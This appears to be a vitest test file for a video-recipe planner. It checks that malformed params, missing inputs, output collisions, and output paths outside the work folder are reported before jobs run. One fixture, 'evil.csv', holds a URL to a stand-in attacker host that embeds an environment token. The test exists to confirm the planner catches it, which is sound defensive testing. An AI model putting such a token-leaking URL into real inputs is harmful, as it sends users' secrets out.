import { describe, expect, test } from "vitest";
import { planFor, planWorld, problemsOf, turnsOf, type PlanWishes } from "../support/plan-for.ts";

const contents = {
  "photos/sea.jpg": "sea",
  "photos/hill.jpg": "hill",
  "photos/empty.png": "",
  "products.csv": "name,product,seconds\nred,Red Mug,15\nblue,Blue Mug,\n",
  "broken.json": "[{]",
  "evil.csv": "at\nhttps://evil.test/${{ env.TOKEN }}\n",
  "empty.csv": "name\n",
};

interface Case {
  readonly what: string;
  readonly recipe: string;
  readonly wishes?: PlanWishes;
  readonly problems: readonly string[];
  /** Parts of what is said. */
  readonly says?: readonly string[];
}

const cases: readonly Case[] = [
  {
    what: "a required param is missing",
    recipe:
      "params:\n  product: { type: string, required: true, description: Product name }\nprompts: show ${{ params.product }}",
    problems: ["2: param-missing"],
    says: ["Product name", "--param product=…", "NEMO_PARAM_PRODUCT"],
  },
  {
    what: "a param that no recipe has",
    recipe: "params: { product: mug }\nprompts: show ${{ params.product }}",
    wishes: { params: { prodcut: "cup" } },
    problems: ["-: unknown-param"],
    says: ["--param product=…"],
  },
  {
    what: "a value that is not of the param's type",
    recipe: "params:\n  seconds: { type: integer, default: 15, max: 60 }\nprompts: ${{ params.seconds }} s",
    wishes: { params: { seconds: "soon" } },
    problems: ["2: param-value"],
    says: ["--param seconds=soon", "whole number"],
  },
  {
    what: "a value in a row that its param does not take",
    recipe:
      "params: { seconds: { type: integer, max: 10 } }\nrows: [{ name: long, seconds: 11 }]\nprompts: ${{ params.seconds }} s",
    problems: ["1: param-value"],
    says: ['column "seconds" of row "long"', "10"],
  },
  {
    what: "a row without what its template needs",
    recipe: "rows: products.csv\nprompts: ${{ row.price }} coins",
    problems: ["2: template-value"],
    says: ["row.price"],
  },
  {
    what: "a recipe whose files come by watch, made without any",
    recipe: "watch: { folder: inbox }\nprompts: turn this photo into a clip",
    problems: ["1: input-count"],
    says: ["one video is made of none", "nemo-recipe watch "],
  },
  {
    what: "a variable of env that is not set",
    recipe: "env: [TOKEN]\ninputs: https://cdn.test/x.jpg?t=${{ env.TOKEN }}\nprompts: move",
    problems: ["-: env-missing"],
    says: ["TOKEN"],
  },
  {
    what: "an env value that a filter changed",
    recipe: "env: [TOKEN]\ninputs: https://cdn.test/x.jpg?t=${{ env.TOKEN | upcase }}\nprompts: move",
    wishes: { env: { TOKEN: "secret" } },
    problems: ["2: env-changed"],
  },
  {
    what: "an env value that a row asks for",
    recipe: 'env: [TOKEN]\nrows: evil.csv\ninputs: ["${{ row.at }}"]\nprompts: move',
    wishes: { env: { TOKEN: "secret" } },
    problems: ["3: env-changed"],
  },
  {
    what: "rows that cannot be read",
    recipe: "rows: broken.json\nprompts: ${{ row.x }}",
    problems: ["1: rows-unreadable"],
    says: ["broken.json"],
  },
  {
    what: "rows that are not there",
    recipe: "rows: prodcuts.csv\nprompts: ${{ row.x }}",
    problems: ["1: rows-unreadable"],
    says: ["prodcuts.csv"],
  },
  { what: "no rows", recipe: "rows: empty.csv\nprompts: ${{ row.name }}", problems: ["1: rows-empty"] },
  {
    what: "an input that is not there",
    recipe: "inputs:\n  - photos/sea.jpg\n  - photos/see.jpg\nprompts: move",
    problems: ["3: input-missing"],
    says: ["photos/see.jpg", "/work"],
  },
  {
    what: "a glob without a match",
    recipe: "inputs: clips/*.mp4\nprompts: move",
    problems: ["1: input-missing"],
    says: ["clips/*.mp4", "optional"],
  },
  {
    what: "a glob that comes out of a row is no glob",
    recipe: 'rows: [{ file: "photos/*.jpg" }]\ninputs: ["${{ row.file }}"]\nprompts: move',
    problems: ["2: input-missing"],
    says: ["photos/*.jpg"],
  },
  {
    what: "an optional glob without a match",
    recipe: "inputs: { path: clips/*.mp4, optional: true }\nprompts: move",
    problems: [],
  },
  {
    what: "an input that cannot be used",
    recipe: "inputs: photos/*\nprompts: move",
    problems: ["1: input-refused"],
    says: ["empty.png"],
  },
  {
    what: "--input that is not there",
    recipe: "prompts: move",
    wishes: { inputs: ["nothing.jpg"] },
    problems: ["1: input-missing"],
    says: ["nothing.jpg"],
  },
  {
    what: "each, and all inputs are absent",
    recipe: "batch: each\ninputs: { path: clips/*.mp4, optional: true }\nprompts: move",
    problems: ["2: input-count"],
  },
  {
    what: "two jobs with one output",
    recipe:
      "matrix: { mood: [calm, wild] }\nprompts: a ${{ matrix.mood }} film\nexport: { to: out/video.mp4 }",
    problems: ["3: output-collision"],
    says: ['"promo-calm" and "promo-wild"', "out/video.mp4", "${{ job.name }}"],
  },
  {
    what: "two outputs that are one file on some systems",
    recipe: "prompts: film\nexport: [{ to: out/Video.mp4 }, { to: out/video.mp4, quality: low }]",
    problems: ["2: output-collision"],
    says: ['two exports of job "promo"', "${{ export.index }}"],
  },
  {
    what: "an output outside the folder",
    recipe: "prompts: film\nexport: { to: ../video.mp4 }",
    problems: ["2: output-outside"],
    says: ["../video.mp4", "--out"],
  },
  {
    what: "an absolute output",
    recipe: "prompts: film\nexport: { to: /etc/video.mp4 }",
    problems: ["2: output-outside"],
  },
  {
    what: "a row that leads outside by dots alone",
    recipe: 'rows: [{ a: ".", b: "." }]\nprompts: film\nexport: { to: "${{ row.a }}${{ row.b }}/x.mp4" }',
    problems: [],
  },
  {
    what: "an output that is a folder",
    recipe: "prompts: film\nexport: { to: out/ }",
    problems: ["2: output-no-file"],
  },
  {
    what: "an extension of another format",
    recipe: "prompts: film\nexport: { format: gif, to: out/x.mp4 }",
    problems: ["2: output-format"],
    says: ["format: mp4"],
  },
  {
    what: "mov is called mp4",
    recipe: "prompts: film\nexport: { format: mov, to: out/x.mp4 }",
    problems: [],
  },
  {
    what: "an output without an extension",
    recipe: "prompts: film\nexport: { to: out/x }",
    problems: ["2: output-format"],
    says: ["no extension"],
  },
  {
    what: "an output over an input",
    recipe: "inputs: photos/sea.jpg\nprompts: film\nexport: { to: photos/SEA.jpg }",
    problems: ["3: output-format", "3: output-is-input"],
    says: ["overwrite an input"],
  },
];

describe("what is wrong is said before anything is sent", () => {
  test.each(cases)("$what", async ({ recipe, wishes, problems, says = [] }) => {
    const plan = await planFor(recipe, planWorld(contents), wishes);
    expect(problemsOf(plan)).toEqual(problems);
    const text = plan.problems.map(({ message, hint }) => `${message} ${hint}`).join("\n");
    for (const part of says) expect(text).toContain(part);
    if (plan.problems.some(({ severity }) => severity === "error")) expect(plan.jobs).toEqual([]);
  });

  test("all of it in one go, over all recipes", async () => {
    const plan = await planFor(
      {
        "a.yaml": "inputs: [no.jpg, none.jpg]\nprompts: film\nexport: { to: ../x.mp4 }",
        "b.yaml": "rows: no.csv\nprompts: ${{ row.x }}",
      },
      planWorld(),
      { params: { x: "1" } },
    );
    const codes = ["unknown-param", "input-missing", "input-missing", "output-outside", "rows-unreadable"];
    expect(plan.problems.map(({ code }) => code).sort()).toEqual(codes.sort());
  });

  test("a thousand rows with one mistake are ten lines and a count", async () => {
    const rows = Array.from({ length: 1_000 }, (_, index) => `{ name: r${index}, seconds: x }`).join(", ");
    const plan = await planFor(
      `params: { seconds: { type: integer } }\nrows: [${rows}]\nprompts: \${{ params.seconds }}`,
    );
    expect(plan.problems).toHaveLength(11);
    expect(plan.problems.at(-1)?.message).toBe("… and 990 more like this");
  });

  test("an empty cell is told with its row", async () => {
    const rows = "rows: [{ name: mug, price: 9 }, { name: cup, price: null }, { price: null }]";
    const plan = await planFor(`${rows}\nprompts: \${{ row.price }} coins`);
    const empty = ['`row.price` is empty in row "cup"', '`row.price` is empty in row "3"'];
    expect(plan.problems.map(({ message }) => message)).toEqual(empty);
  });

  test("the names in a folder become a hint, where they are known", async () => {
    const world = planWorld(contents);
    const files = { ...world.files, namesIn: async () => ["sea.jpg", "hill.jpg"] };
    const near = await planFor("inputs: photos/see.jpg\nprompts: film", { ...world, files });
    expect(near.problems[0]?.hint).toContain('did you mean "photos/sea.jpg"?');
    const far = await planFor("inputs: photos/mountain.mov\nprompts: film", { ...world, files });
    expect(far.problems[0]?.hint).toContain("the folder holds sea.jpg, hill.jpg");
    const told = { ...files, mediaBeside: async () => "photos/ holds 2 pictures: photos/*.jpg" };
    const beside = await planFor("inputs: '*.mov'\nprompts: film", { ...world, files: told });
    expect(beside.problems[0]?.hint).toContain("photos/ holds 2 pictures: photos/*.jpg (paths start at");
  });
});

describe("where a param's value comes from", () => {
  const recipe = (row: string): string =>
    `params: { tone: { type: string, default: default } }\nrows: [{ name: x${row} }]\nprompts: be \${{ params.tone }}`;
  const all: PlanWishes = {
    params: { tone: "flag" },
    entryParams: { tone: "entry" },
    env: { NEMO_PARAM_TONE: "variable" },
  };
  test.each([
    ["flag", ", tone: row", all],
    ["row", ", tone: row", { ...all, params: {} }],
    ["entry", "", { ...all, params: {} }],
    ["variable", ', tone: ""', { env: { NEMO_PARAM_TONE: "variable" } }],
    ["default", "", { env: { NEMO_PARAM_TONE: "" } }],
  ] as const)("%s", async (expected, row, wishes) => {
    const plan = await planFor(recipe(row), planWorld(), wishes);
    expect(turnsOf(plan.jobs[0]?.job)[0]?.prompt).toBe(`be ${expected}`);
  });

  test("a CSV's text is read by the param's type, and its gaps by the default", async () => {
    const text =
      "params: { product: { type: string, required: true }, seconds: { type: integer, default: 9 } }\nrows: products.csv\nprompts: ${{ params.product }} for ${{ params.seconds }} s";
    const plan = await planFor(text, planWorld(contents));
    expect(plan.jobs.map(({ job }) => turnsOf(job)[0]?.prompt)).toEqual([
      "Red Mug for 15 s",
      "Blue Mug for 9 s",
    ]);
  });
});

test("a masked value never enters the plan", async () => {
  const recipe = "env: [TOKEN]\ninputs: https://cdn.test/x.jpg?t=${{ env.TOKEN }}\nprompts: move";
  const plan = await planFor(recipe, planWorld(), { env: { TOKEN: "canary-7d1f" } });
  expect(plan.problems).toEqual([]);
  expect(JSON.stringify(plan)).not.toContain("canary-7d1f");
});
